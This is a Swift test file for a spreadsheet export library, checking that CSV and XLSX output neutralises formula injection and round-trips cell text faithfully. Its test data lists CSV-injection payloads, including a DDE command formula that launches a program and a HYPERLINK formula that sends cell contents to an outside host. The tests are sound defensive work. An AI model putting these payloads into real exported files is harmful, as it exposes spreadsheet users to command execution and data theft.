import Testing

@testable import FunctionTables

/// What is handed out can be read again, and nothing in it is a formula.
@Suite struct SheetTests {
    /// The forms of OWASP's page on CSV injection, and others.
    private static let formulas = [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠A1",
        " =1", "\u{A0}=1", "=cmd|' /C calc'!A0", #"=HYPERLINK("http://example.com?"&A1,"x")"#,
        "=\"a\";=1", "-", "=",
    ]
    /// What looks as if somebody had guarded it already.
    private static let apostrophes = ["'=1", "''=1", "' =1", "'a", "'", "''", "a'=1", "O'Neill"]
    private static let others = [
        "", "a,b", "a\"b", "a\r\nb", "a;b\tc", " a ", "日本", "👩‍👩‍👧", "_x0041_", "_x000D_", "__x0041_",
        "<b>&amp;</b>", "]]>", "a\u{1}b", "\u{FFFF}", "1.10", "007", "TRUE",
    ]

    private static var texts: [String] { formulas + apostrophes + others }

    @Test(arguments: Table.Format.allCases, texts)
    func `gives back every text as it was`(format: Table.Format, text: String) throws {
        let sheet = Sheet("Texts", header: ["text", "end"], rows: [[.text(text), .text("x")]])
        let table = try Table(try sheet.file(as: format))
        #expect(table.format == format)
        #expect(table.rows.last?.fields == [text, "x"])
    }

    @Test(arguments: formulas)
    func `puts an apostrophe before a formula in CSV`(text: String) throws {
        let csv = Sheet("", header: [], rows: [[.text(text)]]).csv()
        let lines = String(decoding: csv, as: UTF8.self)
        #expect(lines.hasPrefix("\r\n'") || lines.hasPrefix("\r\n\"'"))
    }

    @Test(arguments: ["'a", "a=1", "O'Neill", "1-1", "", "a@example.com"])
    func `leaves other texts alone`(text: String) {
        #expect(FormulaGuard.guarded(text) == text)
        #expect(FormulaGuard.strip(text) == text)
    }

    @Test func `types a text of a workbook as text`() throws {
        let sheet = Sheet("Texts", header: ["a"], rows: [[.text("=1+1")]])
        let archive = try ZipArchive(try sheet.file(as: .xlsx), within: .init())
        let part = try #require(try archive.open("xl/worksheets/sheet1.xml"))
        let buffer = UnsafeMutableRawBufferPointer.allocate(byteCount: 1 << 16, alignment: 1)
        defer { buffer.deallocate() }
        let count = try part.read(into: buffer)
        let text = String(decoding: buffer[..<count], as: UTF8.self)
        #expect(text.contains(#"t="inlineStr"><is><t xml:space="preserve">=1+1</t></is></c>"#))
        #expect(!text.contains("<f>"))
    }

    @Test(arguments: Table.Format.allCases)
    func `keeps numbers, flags and blank cells apart`(format: Table.Format) throws {
        let row: [Sheet.Cell] = [
            .number("-12.50"), .flag(true), .blank, .number("1000000"), .flag(false),
        ]
        let sheet = Sheet("Values", header: ["a", "b", "c", "d", "e"], rows: [row])
        let fields = try Table(try sheet.file(as: format)).rows.last?.fields
        let number = format == .csv ? "-12.50" : "-12.5"
        #expect(fields == [number, "TRUE", "", "1000000", "FALSE"])
    }

    @Test(arguments: Table.Format.allCases)
    func `makes the same bytes of the same sheet`(format: Table.Format) throws {
        let sheet = Sheet("A & \"B\"", header: ["a"], rows: Self.texts.map { [.text($0)] })
        #expect(try sheet.file(as: format) == sheet.file(as: format))
    }

    @Test func `names columns as spreadsheets do`() {
        for (column, letters) in [(0, "A"), (25, "Z"), (26, "AA"), (701, "ZZ"), (702, "AAA")] {
            #expect(XLSXWriter.letters(column) == letters)
            #expect(Worksheet.column(of: letters + "7") == column)
        }
    }
}
